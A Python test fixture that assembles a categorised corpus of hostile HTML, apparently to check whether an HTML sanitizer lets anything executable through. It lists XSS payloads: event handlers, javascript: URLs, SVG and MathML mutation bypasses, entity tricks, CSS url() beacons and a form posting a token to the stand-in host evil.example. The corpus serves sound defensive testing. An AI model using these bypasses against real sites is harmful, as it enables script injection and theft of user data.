"""Our own corpus of hostile HTML, by category. Every payload that could run calls alert(1)
or reaches evil.example, so a browser test can tell whether anything got through."""

from __future__ import annotations

EVIL = "https://evil.example"
RUN = "alert(1)"

HANDLERS = ["onclick", "onerror", "onload", "onmouseover", "onfocus", "onblur",
            "onanimationstart", "onpointerenter", "onwheel", "ontoggle", "onbegin",
            "onfocusin"]


def script_and_handlers() -> list[str]:
    payloads = [
        f"<script>{RUN}</script>", f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
        f"<script type=module>{RUN}</script>", f"<img src=x onerror={RUN}>",
        f"<body onload={RUN}>", f"<svg onload={RUN}>", f"<details open ontoggle={RUN}>x</details>",
        f"<input autofocus onfocus={RUN}>", f"<video><source onerror={RUN}></video>",
        f"<marquee onstart={RUN}>x</marquee>", f'<div style="animation:x 1s" onanimationstart={RUN}>x</div>',
        f"<a href=# onclick={RUN}>x</a>", f"<p/onclick={RUN}>x</p>", f"<p onclick\n={RUN}>x</p>",
        f"<p ONCLICK='{RUN}'>x</p>", f"<button formaction=javascript:{RUN}>x</button>",
        f"<isindex action=javascript:{RUN} type=image>", f"<keygen autofocus onfocus={RUN}>",
    ]
    payloads += [f'<div {handler}="{RUN}">h</div>' for handler in HANDLERS]
    return payloads


def urls() -> list[str]:
    schemes = [f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"data:text/html,<script>{RUN}</script>",
               "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
               f" javascript:{RUN}", f"\x01javascript:{RUN}", f"//evil.example/{RUN}"]
    templates = ['<a href="{u}">a</a>', '<svg><a href="{u}"><text y="10">s</text></a></svg>',
                 '<svg><a xlink:href="{u}"><text y="10">s</text></a></svg>',
                 '<form action="{u}"><button>f</button></form>', '<iframe src="{u}"></iframe>',
                 '<object data="{u}"></object>', '<area href="{u}">', '<img src="{u}">']
    payloads = [t.format(u=u) for t in templates[:3] for u in schemes]
    payloads += [t.format(u=schemes[0]) for t in templates[3:]]
    payloads += [f'<blockquote cite="{schemes[0]}">q</blockquote>', f'<q cite="{EVIL}">q</q>']
    return payloads


def svg_vectors() -> list[str]:
    return [
        f'<svg><animate attributeName="href" to="javascript:{RUN}"/><a><text y="9">x</text></a></svg>',
        f'<svg><set attributeName="onmouseover" to="{RUN}"/></svg>',
        f'<svg><a><set attributeName="href" to="javascript:{RUN}"/><text y="9">x</text></a></svg>',
        f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
        f'<svg><use xlink:href="{EVIL}/sprite.svg#x"/></svg>',
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        f"<svg><script>{RUN}</script></svg>", f"<svg><script href={EVIL}/x.js></script></svg>",
        f'<svg><image href="{EVIL}/x.png"/></svg>', f'<svg><feImage href="{EVIL}/x.png"/></svg>',
        f"<svg><style>@import '{EVIL}/x.css';</style></svg>",
        f'<svg><rect width="5" height="5" onclick="{RUN}"/></svg>',
        f'<svg><text onmouseover="{RUN}" y="9">t</text></svg>',
        f'<svg><handler type="text/javascript">{RUN}</handler></svg>',
        f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
        f'<svg><discard onbegin="{RUN}"/></svg>',
        f'<svg><a href="#x"><animate attributeName="href" values="javascript:{RUN}"/>'
        '<text y="9">v</text></a></svg>',
        f'<svg><rect fill="url({EVIL}/p.svg#p)" width="4" height="4"/></svg>',
        f'<svg><path d="M0 0" style="fill: url({EVIL}/f.svg#f)"/></svg>',
        f'<svg><rect fill="\\75rl({EVIL}/e.svg#e)" width="4" height="4"/></svg>',
        f'<svg><filter id="f"><feImage href="{EVIL}/x"/></filter><rect filter="url(#f)"/></svg>',
        f'<svg><iframe src="{EVIL}"></iframe></svg>',
    ]


def mutation_xss() -> list[str]:
    img = f"<img src=x onerror={RUN}>"
    return [
        *mathml_mutations(img),
        f'<noscript><p title="</noscript>{img}">', f'<svg></p><style><a id="</style>{img}">',
        f"<math><mtext><table><mglyph><style>{img}", f"<style>{img}</style>",
        f"<title>{img}</title>", f"<textarea>{img}</textarea>", f"<template>{img}</template>",
        f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[>{img}]]>",
        f"<svg><![CDATA[>{img}]]></svg>", f"<form><math><mtext></form><form><mglyph><style></math>{img}",
        f"<svg><p><style><img src=x onerror={RUN}></style></p></svg>",
        f'<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>{img}"></path>',
        f"<select><template><style><!--</style>{img}-->",
        f"<xmp>{img}</xmp>", f"<noembed>{img}</noembed>", f"<noframes>{img}</noframes>",
        f"<iframe><p>{img}</p></iframe>", f'<a title="--><img src=x onerror={RUN}>">a</a>',
        f"<svg><desc><style>{img}</style></desc></svg>", f"<table><style>{img}</style></table>",
        f"<!-- --!><img src=x onerror={RUN}> -->",
    ]


def mathml_mutations(img: str) -> list[str]:
    """MathML, where sanitizer bypasses keep turning up: DOMPurify #482 and #495, ammonia's
    RUSTSEC-2025-0071 (foreign content mutating after removal) and RUSTSEC-2026-0193
    (annotation-xml read as MathML once its encoding is stripped)."""
    return [
        f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>{img}\">",
        f"<math><mtext><table><mglyph><svg><mtext><style><path id=\"</style>{img}\">",
        f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style>{img}\"></style></h1>",
        f"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style>{img}\">",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
        f"<math><mtext><table><mglyph><style><math href=javascript:{RUN}>CLICKME</math>",
        f'<math><annotation-xml encoding="text/html">{img}</annotation-xml></math>',
        f'<math><annotation-xml encoding="text/html"><p><style><p title="</style>{img}"></style>',
        f'<math><semantics><mi>x</mi><annotation-xml encoding="application/xhtml+xml"><svg><style>{img}',
        f'<math><annotation-xml><svg><style><a title="</style>{img}">',
        f'<math><semantics><mi>x</mi><annotation encoding="text/html">{img}</annotation></semantics></math>',
        f'<math><annotation><style><a title="</style>{img}"></style></annotation></math>',
        f"<math></p><textarea><mi><style></textarea>{img}</mi></math>",
        f"<svg></p><math><title><style>{img}</style></title>",
        f"<svg><math><mtext><style>{img}</style></mtext></math></svg>",
        f"<math><mi><table><tr><td><style>{img}", f"<math><mtext><noscript><style></noscript>{img}",
        f"<math><ms><svg><foreignObject>{img}</foreignObject></svg></ms></math>",
        f'<math href="javascript:{RUN}"><mi xlink:href="javascript:{RUN}">x</mi></math>',
        f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x<mtext>y</mtext></maction></math>',
        f'<math><mi href="{EVIL}">x</mi><mglyph src="{EVIL}/g.png"></mglyph><malignmark></malignmark></math>',
        f'<math><mi style="background: url({EVIL}/x.png)" onclick="{RUN}">x</mi></math>',
    ]


def css_attacks() -> list[str]:
    return [
        f'<div style="background:url({EVIL}/bg.png)">c</div>',
        f'<div style="background-image: url(\'{EVIL}/bg.png\')">c</div>',
        f'<div style="width: expression({RUN})">c</div>',
        f"<style>@import '{EVIL}/x.css';</style>",
        f"<style>body{{background:url({EVIL}/b.png)}}</style>",
        '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#f00;'
        'z-index:2147483647">overlay</div>',
        '<div style="position: absolute; inset: 0; z-index: 99999">overlay</div>',
        f'<div style="behavior: url({EVIL}/x.htc)">c</div>',
        f'<div style="-moz-binding: url({EVIL}/x.xml#x)">c</div>',
        f'<div style="background: \\75rl({EVIL}/x)">c</div>',
        f'<div style="background: u\\rl({EVIL}/x)">c</div>',
        f'<div style="list-style: url({EVIL}/dot.png)">c</div>',
        f'<div style="cursor: url({EVIL}/c.cur), auto">c</div>',
        f'<div style="border-image: url({EVIL}/b.png) 30">c</div>',
        f'<div style="color: red; /* */ background: url({EVIL}/x)">c</div>',
        f'<div style="font-family: x; src: url({EVIL}/f.woff)">c</div>',
        f'<div style="background: image-set(\'{EVIL}/x.png\' 1x)">c</div>',
        f'<div style="--x: url({EVIL}/v); background: var(--x)">c</div>',
        '<div style="transform: scale(100); ">big</div>',
        f'<svg><style>rect{{fill:url({EVIL}/x)}}</style><rect width="2" height="2"/></svg>',
    ]


def embedding_elements() -> list[str]:
    return [
        f'<meta http-equiv="refresh" content="0;url={EVIL}">', f'<base href="{EVIL}/">',
        f'<iframe src="{EVIL}"></iframe>', f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
        f'<object data="{EVIL}/x.swf"></object>', f'<embed src="{EVIL}/x.swf">',
        f'<form action="{EVIL}/steal"><input name="token"><button>Go</button></form>',
        f'<link rel="stylesheet" href="{EVIL}/x.css">', f'<img src="{EVIL}/pixel.png">',
        f'<audio src="{EVIL}/a.mp3" autoplay></audio>', f'<video poster="{EVIL}/p.png"></video>',
        f'<input type="image" src="{EVIL}/i.png">', f'<frameset><frame src="{EVIL}"></frameset>',
        f'<portal src="{EVIL}"></portal>', f'<applet code="{EVIL}/x.class"></applet>',
        f'<picture><source srcset="{EVIL}/s.png"><img></picture>',
    ]


def dom_clobbering() -> list[str]:
    return [
        '<form id="__hits"><input name="push"></form>', '<img name="getElementById">',
        '<a id="csrf-token" href="#">c</a>', '<div id="main">m</div>',
        f'<a id="location" href="{EVIL}">l</a>', '<input name="attributes">',
        '<div id="search-index">[]</div>', '<form name="cookie"></form>',
        '<a id="defaultView"></a><a id="defaultView" name="alert"></a>',
        '<div id="vol-1">fake volume anchor</div>', '<p id="__proto__">p</p>',
    ]


def entity_tricks() -> list[str]:
    return [
        f'<a href="&#x6A;avascript:{RUN}">e</a>', f'<a href="jav&#x0A;ascript:{RUN}">e</a>',
        f'<a href="&Tab;javascript:{RUN}">e</a>', f'<a href=" &#14; javascript:{RUN}">e</a>',
        f'<a href="javascript&colon;{RUN}">e</a>', f'<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58{RUN}">e</a>',
        f'<a href="jav\tascript:{RUN}">e</a>', f'<a href="java\0script:{RUN}">e</a>',
        f'<a href="%6Aavascript:{RUN}">e</a>', f'<a href="javascript&#x3A;{RUN}">e</a>',
        f'<a href="&#0000106;avascript:{RUN}">e</a>', f'<a href="\u2028javascript:{RUN}">e</a>',
        f'<a href="data&colon;text/html,<script>{RUN}</script>">e</a>',
        f'<a href="JAVASCRIPT:{RUN}">e</a>', f'<a href="jAvAsCrIpT&#58;{RUN}">e</a>',
    ]


def break_out() -> list[str]:
    return [
        "</section></main><div id=escaped-1>outside</div>", "<body><div id=escaped-2>b</div>",
        "<html><div id=escaped-3>h</div></html>", "</div></div></div><div id=escaped-4>d</div>",
        '<section class="volume" id="vol-1">fake</section>',
        f"</body></html><script>{RUN}</script>", "<plaintext>swallow the rest",
        "<!DOCTYPE html><div>doc</div>", f"<head><script>{RUN}</script></head>",
        "</template><div id=escaped-5>t</div>", "<frameset><frame></frameset>",
        "</footer></header><div id=escaped-6>f</div>", "<main id=escaped-7>m</main>",
        "<table><tr><td>unclosed", "<svg><g><g><text>unclosed svg",
        "<textarea>swallow", "<style>", "<title>swallow", "<!--unterminated comment",
        "<select><option>unclosed",
    ]


CATEGORIES = {
    "script and event handlers": script_and_handlers,
    "URL schemes in URL attributes": urls,
    "SVG vectors": svg_vectors,
    "mutation XSS": mutation_xss,
    "CSS attacks": css_attacks,
    "meta/base/iframe/object/form": embedding_elements,
    "DOM clobbering": dom_clobbering,
    "entity and whitespace tricks": entity_tricks,
    "breaking out of the volume": break_out,
}


def corpus() -> list[tuple[str, str]]:
    """(category, payload) pairs."""
    return [(category, payload) for category, build in CATEGORIES.items()
            for payload in build()]
